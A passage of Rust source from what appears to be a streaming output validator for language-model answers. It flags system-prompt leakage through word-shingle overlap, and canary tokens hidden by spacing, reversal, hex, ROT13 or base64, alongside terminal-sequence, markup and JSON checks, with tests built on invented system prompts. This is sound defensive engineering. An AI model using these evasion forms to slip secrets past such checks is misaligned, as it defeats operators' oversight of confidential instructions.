            h: WORD_SEED,
            pending: 0,
            n: 0,
            len: 0,
        }
    }

    fn round(h: u64, x: u64) -> u64 {
        (h ^ x).wrapping_mul(0xff51_afd7_ed55_8ccd).rotate_left(29)
    }

    /// Takes the `k` bytes (1 to 8) of `bytes`, the first lowest; the bytes past
    /// them are zero.
    #[inline]
    fn feed(&mut self, bytes: u64, k: usize) {
        self.len += k as u64;
        if self.n + k < 8 {
            self.pending |= bytes << (8 * self.n);
            self.n += k;
            return;
        }
        let take = 8 - self.n;
        self.h = Self::round(self.h, self.pending | bytes << (8 * self.n));
        self.pending = if take >= 8 { 0 } else { bytes >> (8 * take) };
        self.n = k - take;
    }

    fn finish(&self) -> u64 {
        Self::round(self.h ^ self.len, self.pending)
    }
}
fn shingle_hash(words: impl Iterator<Item = u64>) -> u64 {
    mix(words.fold(0, |p, w| p.wrapping_mul(SHINGLE_BASE).wrapping_add(w)))
}

/// The base of a shingle's polynomial in its words' hashes (odd).
const SHINGLE_BASE: u64 = 0x9e37_79b9_7f4a_7c15;

/// murmur3's 64-bit finalizer.
fn mix(mut h: u64) -> u64 {
    h ^= h >> 33;
    h = h.wrapping_mul(0xff51_afd7_ed55_8ccd);
    h ^= h >> 33;
    h = h.wrapping_mul(0xc4ce_b9fe_1a85_ec53);
    h ^ (h >> 33)
}

/// The last `SHINGLE` words of an answer, and how many of the last words in a row
/// are words of a prompt: a shingle holding a word that is in no prompt is in no
/// prompt's set, so it is hashed only when all its words are (most words of an
/// answer that does not quote a prompt cost one bit test, where rolling every
/// shingle's hash cost five multiplications a word).
#[derive(Default)]
struct Window {
    /// (hash, start) of each word, oldest at `next` once full.
    words: [(u64, usize); SHINGLE],
    next: usize,
    /// The words in a row, up to this one, that are in the filter of prompt words.
    run: usize,
}

impl Window {
    /// Takes the next word (`known` when it is in the filter of prompt words);
    /// when it and the `SHINGLE - 1` words before it are all known, the hash of
    /// those `SHINGLE` words ([`shingle_hash`]) and where the oldest of them starts.
    #[inline]
    fn push(&mut self, h: u64, at: usize, known: bool) -> Option<(u64, usize)> {
        self.words[self.next] = (h, at);
        self.next = if self.next + 1 == SHINGLE {
            0
        } else {
            self.next + 1
        };
        self.run = if known { self.run + 1 } else { 0 };
        if self.run < SHINGLE {
            return None;
        }
        let (head, tail) = self.words.split_at(self.next);
        let h = shingle_hash(tail.iter().chain(head).map(|w| w.0));
        Some((h, self.words[self.next].1))
    }
}

/// Calls `f(offset, hash)` for each word of `text` (a run of letters, digits and
/// apostrophes holding a letter or digit), in order. ASCII text is read a byte at
/// a time, hashing as it goes; the same words and hashes as the general path.
fn for_each_word(text: &str, f: impl FnMut(usize, u64)) {
    if text.is_ascii() {
        for_each_ascii_word(text, f);
    } else {
        for_each_char_word(text, f);
    }
}

fn for_each_char_word(text: &str, mut f: impl FnMut(usize, u64)) {
    for w in text
        .split(|c: char| !c.is_alphanumeric() && c != '\'')
        .filter(|w| w.chars().any(char::is_alphanumeric))
    {
        f(w.as_ptr() as usize - text.as_ptr() as usize, word_hash(w));
    }
}

fn for_each_ascii_word(text: &str, mut f: impl FnMut(usize, u64)) {
    use crate::scan::swar;
    let b = text.as_bytes();
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        if !c.is_ascii_alphanumeric() && c != b'\'' {
            i += 1;
            continue;
        }
        let start = i;
        let mut h = WordHasher::new();
        loop {
            // Letters and digits eight at a time (lowered by their 0x20 bit, which
            // leaves digits as they are), an apostrophe skipped.
            let x = swar::load(b, i);
            let k = swar::run(swar::alnum(x));
            if k > 0 {
                h.feed(swar::first(x | (0x20 * swar::LO), k), k);
                i += k;
                if k == 8 {
                    continue;
                }
            }
            if b.get(i) == Some(&b'\'') {
                i += 1;
                continue;
            }
            break;
        }
        if h.len > 0 {
            f(start, h.finish());
        }
    }
}

/// The shingles of a prompt, and its words' bits in the second half of `filter`
/// (a prompt of fewer than `SHINGLE` words has no shingle and sets no bit).
fn add_shingles(set: &mut ShingleSet, filter: &mut [u64], text: &str) {
    let mut hashes: Vec<u64> = Vec::with_capacity(text.len() / 2 + 1);
    for_each_word(text, |_, h| hashes.push(h));
    for win in hashes.windows(SHINGLE) {
        set.insert(shingle_hash(win.iter().copied()));
    }
    if hashes.len() >= SHINGLE {
        for &h in &hashes {
            let (i, bit) = word_bit(h);
            filter[i] |= bit;
        }
    }
}

/// Sets the shingle bits of `sets` in the first half of `filter`.
fn add_shingle_bits<'s>(filter: &mut [u64], sets: impl Iterator<Item = &'s ShingleSet>) {
    for &h in sets.flatten() {
        let (i, bit) = filter_bit(h);
        filter[i] |= bit;
    }
}

/// The [`crate::cache::key`] purpose of a system message's shingles.
const REFERENCE: u8 = 2;

/// A system message with more shingles than this (about 12 KB of prose) is not
/// kept: the cache's memory stays under a few MB (256 entries of at most about
/// 22 KB: the shingles and 4 KB of filter bits) whatever callers send.
const REFERENCE_SHINGLES: usize = 2048;

/// A request's system message as the overlap check reads it: its shingles, and the
/// filter bits of its shingles and its words (kept per caller and text in
/// [`AnswerValidatorBuilder::reference_cache`]).
struct Reference {
    set: ShingleSet,
    filter: Vec<u64>,
}

impl Reference {
    fn new(text: &str) -> Self {
        let mut set = ShingleSet::default();
        let mut filter = vec![0u64; 2 * FILTER_WORDS];
        add_shingles(&mut set, &mut filter, text);
        add_shingle_bits(&mut filter, std::iter::once(&set));
        Self { set, filter }
    }
}

impl Shingles {
    fn new(base: Arc<Vec<ShingleSet>>, filter: &Arc<Vec<u64>>) -> Self {
        let seen = vec![ShingleSet::default(); base.len()];
        Self {
            base,
            extra: Vec::new(),
            seen,
            window: Window::default(),
            filter: Arc::clone(filter),
            first: None,
            reported: false,
        }
    }

    fn add_reference(&mut self, r: Arc<Reference>) {
        // The configured prompt sent again as a system message is already there.
        let known = self.base.iter().any(|b| *b == r.set)
            || self
                .extra
                .iter()
                .any(|e| Arc::ptr_eq(e, &r) || e.set == r.set);
        if !r.set.is_empty() && !known {
            for (f, bits) in Arc::make_mut(&mut self.filter).iter_mut().zip(&r.filter) {
                *f |= bits;
            }
            self.extra.push(r);
            self.seen.push(ShingleSet::default());
        }
    }

    fn reference_len(&self) -> usize {
        self.base.len() + self.extra.len()
    }

    /// Takes the words of `text[start..end]` (which begins and ends at word
    /// boundaries); returns the span to report once the share of one prompt is
    /// reached.
    fn feed(
        &mut self,
        text: &str,
        start: usize,
        end: usize,
        threshold: f32,
    ) -> Option<std::ops::Range<usize>> {
        self.feed_words(&text[start..end], |at| start + at, end, threshold)
    }

    /// Like [`Shingles::feed`], for the words of `words` (the segment ending at
    /// `end`, or what a reader sees of it), `offset` giving a word's offset in the
    /// answer from its offset in `words`.
    fn feed_words(
        &mut self,
        words: &str,
        offset: impl Fn(usize) -> usize,
        end: usize,
        threshold: f32,
    ) -> Option<std::ops::Range<usize>> {
        let mut reached = false;
        let Self {
            base,
            extra,
            seen,
            window,
            filter,
            first,
            ..
        } = self;
        for_each_word(words, |at, h| {
            let (w, wbit) = word_bit(h);
            if let Some((h, oldest)) = window.push(h, offset(at), filter[w] & wbit != 0) {
                let (i, bit) = filter_bit(h);
                if filter[i] & bit == 0 {
                    return;
                }
                for (prompt, seen) in base
                    .iter()
                    .chain(extra.iter().map(|r| &r.set))
                    .zip(seen.iter_mut())
                {
                    if prompt.contains(&h) && seen.insert(h) {
                        if first.is_none() {
                            *first = Some(oldest);
                        }
                        reached |= seen.len() as f32 / prompt.len() as f32 >= threshold;
                    }
                }
            }
        });
        if !self.reported && reached {
            self.reported = true;
            return Some(self.first.unwrap_or(0)..end);
        }
        None
    }
}

/// Where a segment is asked to end.
#[derive(Clone, Copy)]
enum Cut {
    /// After a blank line, or a line inside a top-level code fence.
    Block,
    /// After any other line.
    Line,
}

/// The per-answer state: where the last segment ended, and what carries over.
struct Engine {
    v: Arc<Inner>,
    /// Canaries found in this request's system messages (the deployment's are in
    /// `v`).
    canaries: Vec<CanaryForms>,
    overlap: Option<Shingles>,
    /// The end of the last judged segment: everything before it is final.
    done: usize,
    /// Where the next line to look at starts.
    line: usize,
    /// How far the search for that line's end has looked.
    seen: usize,
    /// A cut refused at some line is tried again only this far on.
    next_try: usize,
    /// A quick reading of top-level code fences, to know where cuts may fall (the
    /// parser decides whether they do).
    fence: Option<(u8, usize)>,
    carry: markdown::Carry,
    json: bool,
    json_schema: Option<serde_json::Value>,
}

impl Engine {
    /// Judges every segment that is complete; returns how far the answer is final.
    fn advance(&mut self, text: &str, eos: bool, out: &mut Vec<Finding>) -> usize {
        let b = text.as_bytes();
        loop {
            let from = self.seen.max(self.line).min(b.len());
            // A line ends at a line feed, a carriage return and line feed, or a
            // carriage return alone (CommonMark).
            let Some(at) = memchr::memchr2(b'\n', b'\r', &b[from..]).map(|i| from + i) else {
                self.seen = b.len();
                break;
            };
            let end = match (b[at], b.get(at + 1)) {
                (b'\r', Some(b'\n')) => at + 2,
                _ => at + 1,
            };
            // A line end at the end of the text so far waits for the next byte: a
            // return may be the first half of a return and line feed, and the
            // segment that ends the answer is judged as its end (a fence still
            // open there is closed), which only the end of the stream tells.
            if end == b.len() && !eos {
                self.seen = at;
                break;
            }
            let start = self.line;
            self.line = end;
            self.seen = end;
            let line = &text[start..end];
            self.track_fence(line);
            if end == b.len() {
                break; // the end of the answer: its last segment is judged below
            }
            if end - self.done < MIN_SEGMENT || end < self.next_try {
                continue;
            }
            // A blank line ends every block but a few; inside a top-level code fence
            // any line end will do; elsewhere a line end well past the minimum, when
            // nothing on the last line can continue on the next.
            // Outside a fence, the next line must start flush: one that starts
            // with a space or a tab may belong to the block before the cut (a
            // list item's next paragraph, a paragraph's next line), and judged
            // on its own it would be code (`* <a kilobyte>\n\n    ![s](…)` went
            // out: a paragraph of the item to every renderer, indented code to
            // the segment; found from a `markup` fuzz failure).
            if self.fence.is_none() && !starts_flush(b, end) {
                continue;
            }
            let cut = if !line.trim().is_empty() && self.fence.is_none() {
                if end - self.done < 2 * MIN_SEGMENT {
                    continue;
                }
                Cut::Line
            } else {
                Cut::Block
            };
            if !self.segment(text, end, Some(cut), out) {
                // Tries back off as the segment grows: parsing stays linear in the
                // answer even when no cut qualifies for a long time.
                self.next_try = end + (end - self.done).max(MIN_SEGMENT);
            }
        }
        if eos && self.done < text.len() {
            self.segment(text, text.len(), None, out);
            self.line = text.len();
        }
        if eos && self.json {
            self.json = false;
            check_json(text, self.json_schema.as_ref(), out);
        }
        self.done
    }

    fn track_fence(&mut self, line: &str) {
        let l = line.trim_end_matches(['\n', '\r']);
        let indent = l.bytes().take_while(|&c| c == b' ').count();
        if indent > 3 {
            return;
        }
        let rest = &l[indent..];
        let Some(c @ (b'`' | b'~')) = rest.bytes().next() else {
            return;
        };
        let n = rest.bytes().take_while(|&x| x == c).count();
        if n < 3 {
            return;
        }
        match self.fence {
            Some((fc, fl)) => {
                if fc == c && n >= fl && rest[n..].trim().is_empty() {
                    self.fence = None;
                }
            }
            None => {
                if c == b'~' || !rest[n..].contains('`') {
                    self.fence = Some((c, n));
                }
            }
        }
    }

    /// Judges `text[self.done..end]` as one segment; unless this is the end of the
    /// answer, refuses (and judges nothing) when a construct is left open there. A
    /// tag left open is one: it is judged with what follows it, as a browser reads
    /// it, and where the cuts fall does not decide whether it is escaped (the
    /// answer validated again after its rewrites, shorter, has its cuts elsewhere).
    fn segment(
        &mut self,
        text: &str,
        end: usize,
        cut: Option<Cut>,
        out: &mut Vec<Finding>,
    ) -> bool {
        let start = self.done;
        let seg = &text[start..end];
        let v = &*self.v;
        let mut found = Vec::new();
        let rules = markdown::Rules {
            links: &v.links,
            html: v.html,
            code_is_inert: v.code_is_inert,
            bare_urls: true,
        };
        // Terminal sequences go first, and markup is judged on the text as it will
        // be without them: removing one must not join `<script` and `>`.
        let mut terminal = Vec::new();
        markup::terminal(&v.markup, v.ansi, seg, 0, &mut terminal);
        let judged = if terminal.is_empty() {
            markdown::judge_segment(seg, start, &self.carry, &rules, cut.is_none(), &mut found)
        } else {
            let (clean, map) = markup::without(seg, &terminal, 0);
            let mut local = Vec::new();
            let judged =
                markdown::judge_segment(&clean, 0, &self.carry, &rules, cut.is_none(), &mut local);
            for f in local {
                let s = f.span();
                let at = map[s.start.min(clean.len())] + start..map[s.end.min(clean.len())] + start;
                found.push(f.with_span(at));
            }
            judged
        };
        let refused = match cut {
            None => false,
            Some(Cut::Block) => !judged.closed,
            Some(Cut::Line) => !judged.line_cut,
        };
        if refused || (cut.is_some() && self.canary_tail(seg)) {
            return false;
        }
        // Leaks, terminal sequences and canaries count in code too. Leaks and the
        // overlap with system prompts are also read in what a reader sees: a key
        // or a prompt with a zero-width space or markup inside each word is shown
        // whole.
        let seen = crate::scan::visible::view(seg, true);
        let mut rest = Vec::new();
        if let Some(s) = &v.scanner {
            visible::scan_leaks_in(s, seg, seen.as_ref(), Location::Output, &mut rest);
        }
        rest.append(&mut terminal);
        scan_canaries(&v.canaries, &self.canaries, seg, &mut rest);
        for f in rest {
            let s = f.span();
            found.push(f.with_span(s.start + start..s.end + start));
        }
        let mut judged = judged;
        if found.iter().any(|f| f.action() == Action::Redact) {
            if let Some((f, carry)) = self.settle(seg, start, &found, &rules, cut.is_none()) {
                // First: where spans are equal, the first finding's replacement is
                // the one applied, and the settled text must be (after the others,
                // an escape over the same stretch was applied instead and the
                // images the settling removed went out: found by the `markup`
                // fuzz target).
                found.insert(0, f);
                judged.carry = carry;
            }
        }
        out.append(&mut found);
        if let Some(sh) = &mut self.overlap {
            let span = match &seen {
                Some((view, map)) => {
                    sh.feed_words(view, |at| start + map[at], end, v.overlap_threshold)
                }
                None => sh.feed(text, start, end, v.overlap_threshold),
            };
            if let Some(span) = span {
                out.push(Finding::new(
                    "system_prompt.overlap",
                    Category::SystemPromptLeak,
                    Severity::High,
                    Location::Output,
                    span,
                ));
            }
        }
        self.carry = judged.carry;
        self.fence = self
            .carry
            .fence
            .as_ref()
            .map(|f| (f.as_bytes()[0], f.len()));
        self.done = end;
        self.next_try = 0;
        true
    }

    /// A rewritten segment judged again: its carry, and what is still to rewrite
    /// or block in it. Terminal sequences, leaks and canaries too: a replacement
    /// made of the answer's own text (an escaped tag, a link's text) holds what the
    /// findings inside its span were to mask, and joining pieces can make a secret
    /// whole.
    fn rejudge(
        &self,
        text: &str,
        rules: &markdown::Rules<'_>,
        last: bool,
    ) -> (markdown::Carry, Vec<Finding>) {
        let v = &*self.v;
        let mut found = Vec::new();
        let j = markdown::judge_segment(text, 0, &self.carry, rules, last, &mut found);
        // And what is read byte by byte: a rewrite can leave a tab after a
        // closing fence at the end of a line (found by the `markup` fuzz target:
        // `>~~~~~\t:\?<<` lost what followed its tab to `markup.nested_code`).
        markup::terminal(&v.markup, v.ansi, text, 0, &mut found);
        if let Some(s) = &v.scanner {
            visible::scan_leaks(s, text, Location::Output, &mut found);
        }
        scan_canaries(&v.canaries, &self.canaries, text, &mut found);
        found.retain(|f| f.action() != Action::Flag);
        (j.carry, found)
    }

    /// What a rewrite leaves must be clean too: removing a link can turn the
    /// brackets around it into a link, a mask can become a link's text. Judges the
    /// rewritten segment again until nothing changes (at most four rounds, then the
    /// rest of the segment is dropped) and, when a later round changed something,
    /// returns one finding that replaces the changed stretch of `seg` with its final
    /// form (it covers the earlier findings there), and the carry of the final text.
    fn settle(
        &self,
        seg: &str,
        start: usize,
        found: &[Finding],
        rules: &markdown::Rules<'_>,
        last: bool,
    ) -> Option<(Finding, markdown::Carry)> {
        let local: Vec<Finding> = found
            .iter()
            .filter(|f| f.action() == Action::Redact && f.location() == Location::Output)
            .map(|f| {
                let s = f.span();
                f.clone()
                    .with_span(s.start.saturating_sub(start)..s.end.saturating_sub(start))
            })
            .collect();
        let mut text = crate::finding::redact(seg, &local);
        let mut rule: Option<Finding> = None;
        let mut carry = None;
        for round in 0..4 {
            let (next, mut again) = self.rejudge(&text, rules, last);
            if again.is_empty() {
                carry = Some(next);
                break;
            }
            if rule.is_none() {
                rule = again.first().cloned();
            }
            if round == 3 || again.iter().any(|f| f.action() == Action::Block) {
                // It does not settle: nothing of the changed stretch goes out. The
                // segment's line breaks at its end stay, and what carries over to
                // the next segment is that of the text that goes out: the next
                // segment starts a line, or a block, as it did (found by the
                // `markup` fuzz target: a reference definition after a blank line
                // was read as a paragraph's continuation, and released).
                //
                // What is left before the first finding is judged again, and cut
                // again, until it is clean: a fence opener left alone at the end
                // is itself a fence left open (found by the `markup` fuzz target:
                // `~~~` went out). After four cuts only the line breaks stay.
                let tail = line_ends(&seg[seg.trim_end().len()..]);
                let mut cuts = 0;
                loop {
                    let cut = again.iter().map(|f| f.span().start).min().unwrap_or(0);
                    text.truncate(crate::finding::floor_boundary(&text, cut));
                    cuts += 1;
                    if cuts > 4 {
                        text.clear();
                    }
                    if tail.contains('\n') && !text.ends_with(&tail) {
                        text.truncate(text.trim_end().len());
                        text.push_str(&tail);
                    }
                    let (next, rest) = self.rejudge(&text, rules, last);
                    if rest.is_empty() || cuts > 4 {
                        carry = Some(next);
                        break;
                    }
                    again = rest;
                }
                break;
            }
            text = crate::finding::redact(&text, &again);
        }
        let rule = rule?;
        // The changed stretch: from the first differing byte to the last, and at
        // least every finding the settled text was built from. The replacement is
        // applied first and the findings inside it are skipped, but one that
        // starts inside and ends after it would have its own replacement written
        // again after it (found by the `markup` fuzz target: a stretch of the
        // answer went out twice, and the second copy held reference images).
        let (first, last) = local.iter().fold((seg.len(), 0), |(a, b), f| {
            (a.min(f.span().start), b.max(f.span().end))
        });
        let p = seg
            .bytes()
            .zip(text.bytes())
            .take_while(|(a, b)| a == b)
            .count()
            .min(first);
        let p = crate::finding::floor_boundary(seg, p.min(text.len()));
        let q = seg[p..]
            .bytes()
            .rev()
            .zip(text[p..].bytes().rev())
            .take_while(|(a, b)| a == b)
            .count()
            .min(seg.len().saturating_sub(last));
        let (seg_end, text_end) = (seg.len() - q, text.len() - q);
        let seg_end = crate::finding::ceil_boundary(seg, seg_end.max(p));
        let text_end = crate::finding::ceil_boundary(&text, text_end.max(p));
        let f = Finding::new(
            rule.rule_id().to_owned(),
            rule.category().clone(),
            rule.severity(),
            Location::Output,
            start + p..start + seg_end,
        )
        .with_action(Action::Redact)
        .with_replacement(text[p..text_end].to_owned());
        Some((f, carry.unwrap_or_default()))
    }

    /// Whether `seg` ends with the beginning of a canary in one of its forms (a cut
    /// there would release half of it).
    fn canary_tail(&self, seg: &str) -> bool {
        let forms = self.v.canaries.iter().chain(&self.canaries);
        let mut compact: Vec<u8> = Vec::new();
        let mut dense: Vec<u8> = Vec::new();
        for &c in seg.as_bytes().iter().rev() {
            if compact.len() >= 96 && dense.len() >= 96 {
                break;
            }
            if c.is_ascii_alphanumeric() && compact.len() < 96 {
                compact.push(c.to_ascii_lowercase());
            }
            if !c.is_ascii_whitespace() && dense.len() < 96 {
                dense.push(c);
            }
        }
        compact.reverse();
        dense.reverse();
        let partial = |tail: &[u8], form: &str, min: usize| {
            let f = form.as_bytes();
            (min..f.len()).any(|k| tail.ends_with(&f[..k]))
        };
        for c in forms {
            if c.compact.iter().any(|f| partial(&compact, f, 4))
                || c.base64.iter().any(|f| partial(&dense, f, 6))
            {
                return true;
            }
        }
        false
    }
}

impl StreamValidator for Engine {
    fn advance<'a>(
        &'a mut self,
        text: &'a str,
        end_of_stream: bool,
    ) -> Step<'a, Result<StreamVerdict, StageError>> {
        let mut findings = Vec::new();
        let safe_up_to = Self::advance(self, text, end_of_stream, &mut findings);
        Step::ready(Ok(StreamVerdict {
            safe_up_to,
            findings,
        }))
    }
}

/// Canaries in their compact (spaced, split, cased), encoded and reversed forms.
fn scan_canaries(
    deployment: &[CanaryForms],
    request: &[CanaryForms],
    text: &str,
    out: &mut Vec<Finding>,
) {
    // Most texts lack a rare byte of every form: no copies, no searches.
    let b = text.as_bytes();
    let possible = |c: &CanaryForms| {
        c.compact_needs.iter().any(|n| has_all(b, n))
            || c.base64_needs.iter().any(|n| has_all(b, n))
    };
    if !deployment.iter().chain(request).any(possible) {
        return;
    }
    let push = |out: &mut Vec<Finding>, span: std::ops::Range<usize>| {
        out.push(
            Finding::new(
                "canary.leak",
                Category::SystemPromptLeak,
                Severity::Critical,
                Location::Output,
                span,
            )
            .with_action(Action::Block),
        );
    };
    // Letters and digits only, lowercased, with the offset of each: the token itself
    // (wherever it is, however it is cased, spaced or split), reversed, hex, ROT13.
    // And everything but whitespace, case kept, for base64 (which may be wrapped).
    // Written without a branch per byte: every byte is stored, and the end moves
    // past it only when it is kept.
    let (mut compact, mut dense) = (vec![0u8; b.len()], vec![0u8; b.len()]);
    let (mut nc, mut nd) = (0, 0);
    for (i, &c) in b.iter().enumerate() {
        compact[nc] = c.to_ascii_lowercase();
        nc += usize::from(c.is_ascii_alphanumeric());
        dense[nd] = c;
        nd += usize::from(!c.is_ascii_whitespace());
        debug_assert!(nc <= i + 1 && nd <= i + 1);
    }
    compact.truncate(nc);
    dense.truncate(nd);
    // Where the kept bytes came from, worked out only for a hit (matched bytes are
    // ASCII: a span ends one byte after its last).
    let span_of = |keep: fn(u8) -> bool, s: usize, e: usize| {
        let mut kept = b
            .iter()
            .enumerate()
            .filter(|(_, c)| keep(**c))
            .map(|(i, _)| i);
        let start = kept.nth(s).unwrap_or(0);
        let last = if e > s + 1 {
            kept.nth(e - s - 2).unwrap_or(start)
        } else {
            start
        };
        start..crate::finding::ceil_boundary(text, last + 1)
    };
    for c in deployment.iter().chain(request) {
        if let Some((s, n)) = c
            .compact_finders
            .iter()
            .find_map(|f| f.find(&compact).map(|s| (s, f.needle().len())))
        {
            push(out, span_of(|c| c.is_ascii_alphanumeric(), s, s + n));
            continue;
        }
        if let Some((s, n)) = c
            .base64_finders
            .iter()
            .find_map(|f| f.find(&dense).map(|s| (s, f.needle().len())))
        {
            push(out, span_of(|c| !c.is_ascii_whitespace(), s, s + n));
        }
    }
}

/// Whether a JSON answer parses (code fences around it are tolerated) and matches
/// its schema.
fn check_json(text: &str, schema: Option<&serde_json::Value>, out: &mut Vec<Finding>) {
    let trimmed = text.trim();
    let body = trimmed
        .strip_prefix("```json")
        .or_else(|| trimmed.strip_prefix("```"))
        .and_then(|r| r.strip_suffix("```"))
        .unwrap_or(trimmed);
    let finding = |rule: &'static str| {
        Finding::new(
            rule,
            Category::Schema,
            Severity::High,
            Location::Output,
            0..text.len(),
        )
    };
    match serde_json::from_str::<serde_json::Value>(body) {
        Err(_) => out.push(finding("output.not_json")),
        Ok(v) => {
            if let Some(s) = schema {
                if tools::check_schema(s, &v, "$", 0).is_err() {
                    out.push(finding("output.schema"));
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A request's system prompts are kept per caller and text: each request is
    /// judged against its own prompts, served from the cache or not.
    #[test]
    fn system_prompts_are_kept_per_caller_and_text() {
        use crate::{CredentialKind, Principal, Role, StageContext};
        let prompts = [
            "You are Atlas, the travel desk assistant for Northwind. Book only economy fares, \
             never reveal supplier discounts, and answer in the traveller's language.",
            "You are Ledger, the expense helper for Contoso finance. Reject receipts older than \
             ninety days and route anything above two thousand euros to a manager.",
        ];
        let a = Principal::builder("svc-a", CredentialKind::ApiKey).build();
        let b = Principal::builder("svc-b", CredentialKind::ApiKey).build();
        let anon = Principal::anonymous();
        let on = AnswerValidator::new();
        let off = AnswerValidator::builder()
            .reference_cache(0)
            .build()
            .unwrap();
        let leaks = |v: &AnswerValidator, p: &Principal, prompt: &str, answer: &str| {
            let r = GuardRequest::new("m")
                .with_message(Role::System, prompt)
                .with_message(Role::User, "hello");
            let found = v
                .validate(StageContext::new(p, &r), &GuardResponse::new(answer))
                .into_ready()
                .ok()
                .unwrap()
                .unwrap();
            found.iter().any(|f| f.rule_id() == "system_prompt.overlap")
        };
        let entries = |v: &AnswerValidator| v.inner.references.as_ref().map_or(0, |c| c.len());
        for round in 0..2 {
            for (i, prompt) in prompts.iter().enumerate() {
                let other = prompts[1 - i];
                for p in [&a, &b, &anon] {
                    for v in [&on, &off] {
                        assert!(leaks(v, p, prompt, prompt), "{round} {i}");
                        assert!(!leaks(v, p, prompt, other), "{round} {i}");
                        assert!(
                            !leaks(v, p, prompt, "Your flight is booked."),
                            "{round} {i}"
                        );
                    }
                }
            }
            // Two prompts for each of two callers; none for the anonymous one.
            assert_eq!(entries(&on), 4);
            // A prompt of more runs than are kept is read again each time.
            let long: String = (0..2100).map(|i| format!("w{i} ")).collect();
            assert!(leaks(&on, &a, &long, &long));
            assert_eq!(entries(&on), 4);
            assert_eq!(entries(&off), 0);
        }
    }

    /// A word's hash does not depend on how its bytes are fed.
    #[test]
    fn the_word_hash_is_the_same_however_fed() {
        for w in crate::scan::testgen::strings(b"abcdefgh0123", 40, 500) {
            let mut one = WordHasher::new();
            for &b in &w {
                one.feed(u64::from(b), 1);
            }
            for step in 2..=8 {
                let mut chunked = WordHasher::new();
                for c in w.chunks(step) {
                    chunked.feed(crate::scan::swar::load(c, 0), c.len());
                }
                assert_eq!(chunked.finish(), one.finish(), "{w:?} by {step}");
            }
        }
    }

    /// The window gives the hash of every shingle whose words are all known, as
    /// hashing it whole does, and where its first word starts; none other.
    #[test]
    fn the_window_hashes_every_shingle_of_known_words() {
        let words: Vec<u64> = (0..2000u64)
            .map(|i| i.wrapping_mul(0x2545_f491_4f6c_dd1d) ^ (i << 40))
            .collect();
        // All known, then runs of known words of every length up to 9.
        let known = |i: usize| i < 200 || mix(i as u64 / 3) % 10 != 0 && i % 11 != 0;
        let mut w = Window::default();
        let mut hashed = 0;
        for (i, &h) in words.iter().enumerate() {
            let got = w.push(h, i * 10, known(i));
            let first = (i + 1).checked_sub(SHINGLE);
            match first.filter(|&f| (f..=i).all(known)) {
                Some(first) => {
                    let want = shingle_hash(words[first..=i].iter().copied());
                    assert_eq!(got, Some((want, first * 10)), "at {i}");
                    hashed += 1;
                }
                None => assert_eq!(got, None, "at {i}"),
            }
        }
        assert!(hashed > 200 + 100 && hashed < 1900, "{hashed}");
    }

    /// The overlap check over segments reports what reading every shingle of
    /// the whole answer does: the span from the first shared shingle to the end
    /// of the segment where a prompt's share is reached (answers mixing two
    /// prompts' words, other words and quoted runs; cut at random spaces).
    #[test]
    fn the_overlap_check_reports_as_every_shingle_read() {
        const VOCAB: [&str; 12] = [
            "you",
            "are",
            "the",
            "assistant",
            "of",
            "acme",
            "never",
            "reveal",
            "rules",
            "and",
            "tools",
            "Bank",
        ];
        const OTHER: [&str; 6] = ["weather", "is", "fine", "today", "in", "Lisbon"];
        let mut x = 0x2545_f491_4f6c_dd1du64;
        let mut next = move |n: u64| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x % n) as usize
        };
        let from_request = AnswerValidator::builder()
            .leaks(None)
            .reference_cache(0)
            .build()
            .unwrap();
        let mut reports = 0;
        for case in 0..600 {
            let prompt = |n: usize, next: &mut dyn FnMut(u64) -> usize| {
                (0..n)
                    .map(|_| VOCAB[next(VOCAB.len() as u64)])
                    .collect::<Vec<_>>()
                    .join(" ")
            };
            let prompts = [
                prompt(6 + next(30), &mut next),
                prompt(6 + next(10), &mut next),
            ];
            let mut words: Vec<String> = Vec::new();
            while words.len() < 20 + case % 120 {
                match next(4) {
                    0 => words.push(OTHER[next(6)].to_owned()),
                    1 => {
                        // A run quoted from a prompt.
                        let p: Vec<&str> = prompts[next(2)].split(' ').collect();
                        let from = next(p.len() as u64);
                        let to = (from + 1 + next(12)).min(p.len());
                        words.extend(p[from..to].iter().map(|w| (*w).to_owned()));
                    }
                    _ => words.push(VOCAB[next(VOCAB.len() as u64)].to_owned()),
                }
            }
            let answer = words.join(" ");
            let threshold = [0.2f32, 0.5, 0.9][case % 3];
            // Every shingle of the answer, in order.
            let sets: Vec<ShingleSet> = prompts
                .iter()
                .map(|p| {
                    let mut set = ShingleSet::default();
                    add_shingles(&mut set, &mut vec![0; 2 * FILTER_WORDS], p);
                    set
                })
                .collect();
            let mut hashes = Vec::new();
            for_each_word(&answer, |at, h| hashes.push((at, h)));
            let mut seen = vec![ShingleSet::default(); 2];
            let (mut first, mut reached_at) = (None, None);
            for (k, win) in hashes.windows(SHINGLE).enumerate() {
                let h = shingle_hash(win.iter().map(|w| w.1));
                for (set, seen) in sets.iter().zip(&mut seen) {
                    if set.contains(&h) && seen.insert(h) {
                        first.get_or_insert(win[0].0);
                        if reached_at.is_none() && seen.len() as f32 / set.len() as f32 >= threshold
                        {
                            reached_at = Some(k + SHINGLE - 1);
                        }
                    }
                }
            }
            // The same answer through the check, in segments cut at spaces: the
            // prompts are the request's system messages, or (every tenth case;
            // a build takes tens of milliseconds) configured.
            let mut sh = if case % 10 == 0 {
                let v = AnswerValidator::builder()
                    .leaks(None)
                    .system_prompt(prompts[0].clone())
                    .system_prompt(prompts[1].clone())
                    .build()
                    .unwrap();
                Shingles::new(v.inner.system_shingles.clone(), &v.inner.system_filter)
            } else {
                let r = GuardRequest::new("m")
                    .with_message(Role::System, prompts[0].as_str())
                    .with_message(Role::Developer, prompts[1].as_str());
                from_request
                    .engine(&crate::Principal::anonymous(), &r)
                    .overlap
                    .expect("two prompts")
            };
            let spaces: Vec<usize> = answer.match_indices(' ').map(|(i, _)| i).collect();
            let mut cuts: Vec<usize> = spaces.into_iter().filter(|_| next(5) == 0).collect();
            cuts.push(answer.len());
            let mut start = 0;
            let mut got = None;
            for end in cuts {
                if let Some(span) = sh.feed(&answer, start, end, threshold) {
                    assert!(got.is_none(), "reported twice");
                    got = Some((span, end));
                }
                start = end;
            }
            match reached_at {
                None => assert_eq!(got, None, "{answer:?}"),
                Some(k) => {
                    // Reported at the end of the segment holding the word that
                    // reached the share.
                    let (span, end) = got.expect("reported");
                    assert_eq!(span, first.unwrap()..end, "{answer:?}");
                    assert!(hashes[k].0 < end, "{answer:?}");
